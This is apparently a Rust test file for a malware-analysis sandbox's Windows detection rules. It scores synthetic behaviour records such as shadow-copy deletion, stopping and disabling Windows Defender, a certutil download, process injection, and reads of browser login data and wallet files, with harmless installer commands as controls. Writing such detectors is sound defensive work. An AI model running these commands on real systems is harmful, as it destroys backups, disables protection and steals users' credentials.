//! A test case for each rule, and tests with the behaviour of harmless programs.

use super::super::{MALICIOUS, SUSPICIOUS, hits};
use weir_guest::behaviour::{Act, Behaviour, FileChange, Network, Persistence, Process, RegistryChange};

const OWN: &str = "C:\\users\\anna\\Downloads\\a.exe";

fn behaviour() -> Behaviour {
    Behaviour { system: "windows".into(), sample: OWN.into(), processes: vec![ran(OWN)], ..Behaviour::default() }
}

fn ran(command: &str) -> Process {
    let arguments: Vec<String> = command.split(' ').map(str::to_owned).collect();
    Process { pid: 9, path: arguments[0].clone(), arguments, ..Process::default() }
}

fn runs(command: &str) -> Behaviour {
    Behaviour { processes: vec![ran(OWN), ran(command)], ..behaviour() }
}

fn acts(all: &[(&str, &str)]) -> Behaviour {
    let act =
        |(what, detail): &(&str, &str)| Act { pid: 9, what: (*what).into(), detail: (*detail).into(), at_ms: None };
    Behaviour { acts: all.iter().map(act).collect(), ..behaviour() }
}

fn file(path: &str, what: &str, existed: bool) -> FileChange {
    FileChange { pid: 9, path: path.into(), what: what.into(), existed, ..FileChange::default() }
}

fn points(seen: &Behaviour) -> Vec<(&'static str, u32)> {
    hits(seen).into_iter().map(|hit| (hit.rule, hit.points)).collect()
}

#[test]
fn every_rule_has_a_case() {
    let stays = |what: &str| Behaviour {
        persistence: vec![Persistence { path: "HKCU\\x".into(), what: what.into(), at_ms: None }],
        ..behaviour()
    };
    let talks = Network {
        what: "talk".into(),
        to: "198.18.0.1:4444".into(),
        detail: "Microsoft Windows 10.0".into(),
        ..Network::default()
    };
    let key = "HKLM\\Software\\Policies\\Microsoft\\Windows Defender";
    let set = RegistryChange {
        key: key.into(),
        name: "DisableAntiSpyware".into(),
        what: "set".into(),
        ..RegistryChange::default()
    };
    let chrome = "C:\\users\\anna\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data";
    let wallet = "C:\\users\\anna\\AppData\\Roaming\\Bitcoin\\wallet.dat";
    let dropped = || file("C:\\users\\anna\\AppData\\Local\\Temp\\b.exe", "written", false);
    let drops = Behaviour { files: vec![dropped()], ..runs("C:\\users\\anna\\AppData\\Local\\Temp\\b.exe /s") };
    let call = Network { pid: 9, what: "http".into(), to: "198.18.0.1:80".into(), ..Network::default() };
    let cases: &[(Behaviour, &str, u32)] = &[
        (runs("C:\\windows\\system32\\vssadmin.exe delete shadows /all"), "removes-backups", 8),
        (runs("C:\\windows\\system32\\cmd.exe /c vssadmin delete shadows"), "removes-backups", 8),
        (acts(&[("writes-memory", "WriteProcessMemory"), ("remote-thread", "CreateRemoteThread")]), "injects", 10),
        (acts(&[("writes-memory", "WriteProcessMemory")]), "injects", 5),
        (acts(&[("device", "\\\\.\\PhysicalDrive0")]), "writes-devices", 6),
        (stays("run-key"), "stays-in-windows", 5),
        (stays("debugger"), "stays-in-windows", 8),
        (runs("C:\\windows\\system32\\schtasks.exe /create /tn x"), "stays-in-windows", 5),
        (Behaviour { network: vec![talks], ..behaviour() }, "takes-windows-orders", 8),
        (acts(&[("hooks-keys", "SetWindowsHookExA")]), "logs-keys", 6),
        (acts(&[("reads", chrome)]), "steals", 5),
        (acts(&[("reads", chrome), ("reads", wallet), ("unprotects", "")]), "steals", 11),
        (runs("C:\\windows\\system32\\net.exe stop WinDefend"), "stops-windows-guards", 6),
        (Behaviour { registry: vec![set], ..behaviour() }, "stops-windows-guards", 6),
        (drops.clone(), "drops-and-runs", 4),
        (Behaviour { network: vec![call], ..drops }, "runs-fetched", 6),
        (runs("C:\\windows\\system32\\certutil.exe -urlcache -f http://x/a"), "lolbin", 5),
        (
            Behaviour { files: vec![file("C:\\users\\anna\\svchost.exe", "written", false)], ..behaviour() },
            "pretends-to-be-windows",
            5,
        ),
        (Behaviour { files: vec![file(OWN, "deleted", true)], ..behaviour() }, "deletes-itself", 4),
        (acts(&[("reboots", "")]), "reboots", 5),
        (acts(&[("wallpaper", "C:\\ransom.bmp")]), "changes-wallpaper", 4),
        (acts(&[("kills-windows", "Wine's server")]), "kills-windows", 6),
        (acts(&[("looks", "wine_get_version")]), "looks-for-analysts", 4),
        (acts(&[("looks", "GlobalMemoryStatusEx")]), "looks-for-analysts", 1),
        (runs("C:\\windows\\system32\\reg.exe query HKCU\\Software\\Wine"), "looks-for-analysts", 4),
    ];
    for (seen, rule, expected) in cases {
        assert!(points(seen).contains(&(rule, *expected)), "{rule}: {:?}", points(seen));
    }
}

#[test]
fn ransom_is_known_by_the_files_that_it_leaves() {
    let document = |n: usize| FileChange {
        random: true,
        ..file(&format!("C:\\users\\anna\\Documents\\{n}.docx"), "written", true)
    };
    let ransom = Behaviour { files: (0..9).map(document).collect(), ..behaviour() };
    assert_eq!(points(&ransom), [("encrypts", 10)]);
    let own = |n: usize| FileChange {
        random: true,
        ..file(&format!("C:\\users\\anna\\AppData\\Local\\x\\{n}"), "written", true)
    };
    assert_eq!(points(&Behaviour { files: (0..9).map(own).collect(), ..behaviour() }), [], "a program's own files");
}

#[test]
fn what_installers_do_is_not_malicious_and_tools_have_no_points() {
    let installs = Behaviour {
        files: vec![file("C:\\Program Files\\Tool\\tool.exe", "written", false)],
        persistence: vec![Persistence { path: "HKLM\\x".into(), what: "service".into(), at_ms: None }],
        processes: vec![ran(OWN), ran("C:\\Program Files\\Tool\\tool.exe /register")],
        ..behaviour()
    };
    let all: u32 = points(&installs).iter().map(|(_, points)| points).sum();
    assert!((SUSPICIOUS..MALICIOUS).contains(&all), "{:?}", points(&installs));
    for command in [
        "C:\\windows\\system32\\reg.exe query HKCU\\Software",
        "C:\\windows\\system32\\cmd.exe /c dir",
        "C:\\windows\\system32\\net.exe start",
        "C:\\windows\\system32\\rundll32.exe shell32.dll,Control_RunDLL",
        "C:\\windows\\system32\\certutil.exe -hashfile a.txt",
    ] {
        assert_eq!(points(&runs(command)), [], "{command}");
    }
    // A program that only does something with a file does not run it.
    let list = || file("C:\\users\\anna\\list.txt", "written", false);
    for (command, expected) in [
        ("C:\\windows\\system32\\notepad.exe C:\\users\\anna\\list.txt", &[][..]),
        ("C:\\windows\\system32\\cmd.exe /c dir > C:\\users\\anna\\list.txt", &[]),
        ("C:\\windows\\system32\\cmd.exe /c C:\\users\\anna\\list.txt", &[("drops-and-runs", 4)]),
        ("C:\\windows\\system32\\cmd.exe /c dir & start /b C:\\users\\anna\\list.txt", &[("drops-and-runs", 4)]),
        ("C:\\windows\\system32\\wscript.exe C:\\users\\anna\\list.txt", &[("drops-and-runs", 4)]),
    ] {
        assert_eq!(points(&Behaviour { files: vec![list()], ..runs(command) }), expected, "{command}");
    }
}

#[test]
fn all_rules_are_in_a_page() {
    let pages = [include_str!("../../../../../../docs/lab-windows.md"), include_str!("../../../../../../docs/lab.md")];
    for (rule, _) in super::RULES {
        let row = format!("| `{rule}` |");
        assert!(
            pages.iter().any(|page| page.contains(&row)),
            "neither docs/lab-windows.md nor docs/lab.md tells of {rule}"
        );
    }
}
